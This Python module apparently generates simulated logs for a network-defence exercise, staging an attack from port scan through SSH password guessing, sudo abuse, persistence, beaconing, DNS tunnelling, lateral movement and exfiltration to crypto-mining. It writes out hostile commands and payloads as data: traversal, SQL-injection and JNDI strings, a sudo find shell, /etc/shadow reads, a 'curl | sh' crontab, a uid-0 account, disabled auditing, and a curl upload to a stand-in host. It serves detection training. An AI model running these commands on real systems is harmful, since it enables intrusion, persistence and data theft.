"""The attack of the network exercise: from a scan to mining, over one jump server. Logs only, nothing here works.

Attackers come from 203.0.113.0/24 (RFC 5737), their names end in .example. Each function is one stage; the table at
the end gives ids, techniques and times (day 0 is Monday, local time).
"""

import base64
from collections.abc import Callable
from dataclasses import dataclass

from tocsin.exercise.calendar import at_us
from tocsin.exercise.chance import MICROSECONDS
from tocsin.exercise.ground_truth import StagePlan
from tocsin.exercise.network.background import Network
from tocsin.exercise.network.linux import LinuxServer
from tocsin.exercise.timeline import Mark

SCANNER, OPERATOR, DROP, POOL, TUNNEL = "203.0.113.66", "203.0.113.90", "203.0.113.80", "203.0.113.100", "203.0.113.53"
_STOLEN = "e.leka"
_SCANNED_PORTS = (21, 22, 23, 25, 80, 110, 135, 139, 143, 443, 445, 993, 1433, 3306, 3389, 5432, 5900, 8000, 8080, 8443)
_OPEN_PORTS = (22, 80, 443)
_BEACON_SECONDS = 1_800
_BEACON_JITTER = 0.1
_BEACONS = 60
_TUNNEL_QUERIES = 60
_FAILED_LOGINS = 40
_EXPLOITS = (  # cut short or aimed at nothing: shapes of attacks, not attacks
    "/../../../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc/passwd",
    "/search?q=%27%20OR%20%271%27%3D%271",
    "/search?q=1%20UNION%20SELECT%20NULL,NULL,version()--",
    "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fscanner.example%2Fx",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    "/wp-login.php",
    "/.git/config",
    "/.env",
    "/tenders/upload.php?cmd=id",
)


@dataclass(frozen=True, slots=True)
class _Marks:
    """Marks of one stage."""

    stage: str

    def __call__(self, marker: str, host: str, user: str = "", key: bool = True) -> Mark:
        return Mark(self.stage, marker, key, host, user)


def scan(network: Network, at: int, marks: _Marks) -> None:
    """One address tries many ports of two servers."""
    chance = network.chance
    when = at
    for host in ("www1", "jump1"):
        for port in _SCANNED_PORTS:
            when += chance.whole(40_000, 900_000)
            is_open = port in _OPEN_PORTS
            one = network.wire.connect(
                when, SCANNER, network.address(host), port, state="RSTO" if is_open else "S0", seconds=0.1 * is_open,
                sent=0, received=0, denied=not is_open, mark=marks("scan", host),
            )  # fmt: skip
        network.wire.alert(one, when + 5_000, 1, "SCAN many ports from one source", 2, marks("scan-alert", host))
        text = f"{SCANNER} scanned at least 15 unique ports of host {network.address(host)} in 0m14s"
        network.wire.notice(one, when + 9_000, "Scan::Port_Scan", text, marks("scan-notice", host))


def exploit(network: Network, at: int, marks: _Marks) -> None:
    """Attempts on the web server: traversal, SQL, a lookup string, a page that runs commands."""
    chance, web = network.chance, network.address("www1")
    when = at
    for index, uri in enumerate(_EXPLOITS):
        when += chance.whole(2, 9) * MICROSECONDS
        status = 200 if "cmd=" in uri else chance.pick((400, 403, 404))
        agent = "${jndi:ldap://scanner.example/" if index == len(_EXPLOITS) - 3 else "curl/8.5.0"
        mark = marks("web-exploit", "www1")
        one = network.wire.web(
            when, SCANNER, web, "www.energy.velmora.example", uri, agent=agent, status=status, received=600, mark=mark
        )
        network.visit(when + 50_000, SCANNER, f"GET {uri}", status, 600, agent, mark)
        if index % 2 == 0:
            network.wire.alert(one, when + 60_000, 10 + index, "WEB attempt on the web server", 1, mark)
    server = network.servers["www1"]
    for arguments in (["/bin/sh", "-c", "id"], ["/usr/bin/id"], ["/usr/bin/uname", "-a"]):
        when += MICROSECONDS
        server.execute(when, "www-data", arguments, directory="/var/www", mark=marks("web-shell", "www1", "www-data"))


def guess(network: Network, at: int, marks: _Marks) -> None:
    """Many passwords over SSH, then one is right."""
    chance, server = network.chance, network.servers["jump1"]
    when, target = at, network.address("jump1")
    for index in range(_FAILED_LOGINS):
        when += chance.whole(1, 5) * MICROSECONDS
        account = _STOLEN if index % 4 == 3 else chance.pick(("root", "admin", "backup", "helpdesk"))
        mark = marks("failed-login", "jump1", account)
        one = network.wire.shell(when, SCANNER, target, False, chance.between(1, 3), mark)
        server.login_fails(when + 600_000, account, account in ("root", _STOLEN), SCANNER, mark)
    text = f"{SCANNER} appears to be guessing SSH passwords (seen in {_FAILED_LOGINS} connections)."
    network.wire.notice(one, when + MICROSECONDS, "SSH::Password_Guessing", text, marks("guessing-notice", "jump1"))
    network.wire.alert(
        one, when + MICROSECONDS, 30, "SCAN many SSH logins from one source", 2, marks("guessing-alert", "jump1")
    )
    when += 8 * MICROSECONDS
    network.wire.shell(when, SCANNER, target, True, 1_500, marks("login", "jump1", _STOLEN))
    server.login(when + 700_000, _STOLEN, SCANNER, "password", marks("login", "jump1", _STOLEN))


def _run(server: LinuxServer, at: int, commands: list[tuple[str, list[str]]], marks: _Marks) -> int:
    """Commands through sudo, some seconds apart; the time of the last."""
    when = at
    for marker, arguments in commands:
        when += 12 * MICROSECONDS
        server.sudo(when, _STOLEN, arguments, 99, marks(marker, server.host.name, _STOLEN))
    return when


def abuse_sudo(network: Network, at: int, marks: _Marks) -> None:
    """A shell as root by way of an editor's and a finder's own features."""
    server = network.servers["jump1"]
    commands = [
        ("sudo-discovery", ["/usr/bin/sudo", "-l"]),
        ("sudo-shell", ["/usr/bin/find", "/etc", "-maxdepth", "0", "-exec", "/bin/sh", "-p", ";"]),
        ("shadow-read", ["/usr/bin/cat", "/etc/shadow"]),
        ("history-off", ["/usr/bin/ln", "-sf", "/dev/null", "/root/.bash_history"]),
    ]
    _run(server, at, commands, marks)


def persist(network: Network, at: int, marks: _Marks) -> None:
    """A crontab that fetches a script, a key, a new account."""
    server = network.servers["jump1"]
    job = "curl -fsSL http://files.update-service.example/u.sh | sh"
    commands = [
        ("crontab", ["/bin/sh", "-c", f"(crontab -l; echo '*/30 * * * * {job}') | crontab -"]),
        ("crontab", ["/usr/bin/crontab", "-"]),
        ("authorized-keys", ["/usr/bin/tee", "-a", "/root/.ssh/authorized_keys"]),
        ("account-created", ["/usr/sbin/useradd", "-o", "-u", "0", "-m", "sysupd"]),
        ("audit-stopped", ["/usr/sbin/auditctl", "-e", "0"]),
    ]
    when = _run(server, at, commands, marks)
    for index in range(1, 5):
        server.cron(when + index * _BEACON_SECONDS * MICROSECONDS, "root", job, marks("cron-job", "jump1", "root"))


def beacon(network: Network, at: int, marks: _Marks) -> None:
    """Small encrypted connections to one address, about every half hour."""
    chance, source = network.chance, network.address("jump1")
    when = at
    for index in range(_BEACONS):
        when += int(_BEACON_SECONDS * (1 + chance.between(-_BEACON_JITTER, _BEACON_JITTER)) * MICROSECONDS)
        mark = marks("beacon", "jump1")
        one = network.wire.encrypted(
            when, source, OPERATOR, "cdn.update-service.example", seconds=chance.between(0.3, 0.6),
            sent=chance.whole(480, 520), received=chance.whole(1_180, 1_240), subject="CN=localhost, O=Exercise",
            mark=mark,
        )  # fmt: skip
        if index == 0:
            network.wire.alert(one, when + 80_000, 40, "TLS certificate that signs itself", 3, mark)


def tunnel(network: Network, at: int, marks: _Marks) -> None:
    """Long names under one domain carry data to its name server."""
    chance, source = network.chance, network.address("jump1")
    when = at
    for index in range(_TUNNEL_QUERIES):
        when += chance.whole(200_000, 1_500_000)
        label = base64.b32encode(b"exercise only " + bytes(f"{index:04d} {chance.hexadecimal(12)}", "ascii")).decode()
        name = f"{label.strip('=').lower()}.{index:04x}.t.cdn-sync.example"
        answer = base64.b64encode(b"exercise").decode()
        network.wire.query(when, source, TUNNEL, name, [answer], type_="TXT", mark=marks("dns-tunnel", "jump1"))


def spread(network: Network, at: int, marks: _Marks) -> None:
    """From the jump server over the inside: a look at port 445, then an administrative share."""
    chance, source = network.chance, network.address("jump1")
    when = at
    for host in (*network.organisation.workstations, *network.organisation.windows_servers):
        when += chance.whole(30_000, 200_000)
        mark = marks("internal-scan", "jump1")
        network.wire.connect(when, source, host.address, 445, state="REJ", seconds=0, sent=0, received=0, mark=mark)
    for host_name in ("FS01", "SQL01"):
        when += 20 * MICROSECONDS
        for share, file in (("IPC$", "svcctl"), ("ADMIN$", "Temp\\mgr.exe")):
            mark = marks("admin-share", host_name)
            network.wire.share(when, source, network.address(host_name), share, file, mark)


def take(network: Network, at: int, marks: _Marks) -> None:
    """Gigabytes leave for one address, at night."""
    chance, source = network.chance, network.address("jump1")
    server = network.servers["jump1"]
    archive = ["/usr/bin/tar", "czf", "/var/tmp/.a.tgz", "/srv/share/Προϋπολογισμός", "/srv/share/Raporti vjetor"]
    when = _run(server, at, [("archive", archive)], marks)
    upload = ["/usr/bin/curl", "-T", "/var/tmp/.a.tgz", "https://files.update-service.example/in/"]
    when = _run(server, when, [("upload-command", upload)], marks)
    for _ in range(6):
        when += chance.whole(60, 400) * MICROSECONDS
        network.wire.encrypted(
            when, source, DROP, "files.update-service.example", seconds=chance.between(120, 700),
            sent=chance.whole(300_000_000, 900_000_000), received=chance.whole(20_000, 90_000),
            mark=marks("upload", "jump1"),
        )  # fmt: skip


def mine(network: Network, at: int, marks: _Marks) -> None:
    """A miner on the code server talks to its pool."""
    server, source = network.servers["git1"], network.address("git1")
    pool = "pool.miner.example"
    command = ["/tmp/.x/kworkerds", "-o", f"stratum+tcp://{pool}:3333", "-u", "exercise", "--donate-level=1"]
    server.execute(at, "git", command, directory="/tmp/.x", mark=marks("miner", "git1", "git"))
    network.wire.query(at + 200_000, source, network.address("DC01"), pool, [POOL], mark=marks("pool-name", "git1"))
    for index in range(8):
        when = at + MICROSECONDS + index * 3_000 * MICROSECONDS
        one = network.wire.connect(
            when, source, POOL, 3333, seconds=2_900, sent=240_000, received=310_000, mark=marks("pool", "git1")
        )
        network.wire.alert(one, when + 900_000, 50, "POLICY mining protocol", 1, marks("pool-alert", "git1"))


Act = Callable[[Network, int, _Marks], None]
_STAGES: tuple[tuple[str, str, tuple[str, ...], int, str, Act], ...] = (
    ("reconnaissance", "Ports of the public servers are scanned", ("T1595.001", "T1046"), 0, "19:10", scan),
    ("web-exploit", "Attempts on the web server, one of them answers", ("T1190", "T1505.003"), 0, "19:42", exploit),
    ("password-guessing", "SSH passwords are guessed until one is right", ("T1110.001", "T1078"), 0, "23:05", guess),
    ("sudo-abuse", "Root by way of sudo", ("T1548.003", "T1003.008"), 0, "23:20", abuse_sudo),
    (
        "persistence",
        "A crontab, a key and an account stay",
        ("T1053.003", "T1098.004", "T1136.001"),
        0,
        "23:31",
        persist,
    ),
    ("command-and-control", "A beacon with jitter", ("T1071.001", "T1573.002"), 0, "23:50", beacon),
    ("dns-tunnel", "Data in names", ("T1071.004", "T1048.003"), 1, "02:15", tunnel),
    ("lateral-movement", "Shares inside are looked for and opened", ("T1046", "T1021.002"), 2, "01:20", spread),
    ("exfiltration", "Documents leave over HTTPS", ("T1560.001", "T1048.002"), 3, "02:05", take),
    ("resource-hijacking", "A miner runs on the code server", ("T1496",), 4, "22:00", mine),
)


def stage_plans() -> tuple[StagePlan, ...]:
    """Ids, titles and techniques of the stages."""
    return tuple(StagePlan(id_, title, attack) for id_, title, attack, _, _, _ in _STAGES)


def plant(network: Network) -> None:
    """Lays all stages on the timeline."""
    for id_, _title, _attack, day, clock, act in _STAGES:
        act(network, at_us(day, clock), _Marks(id_))
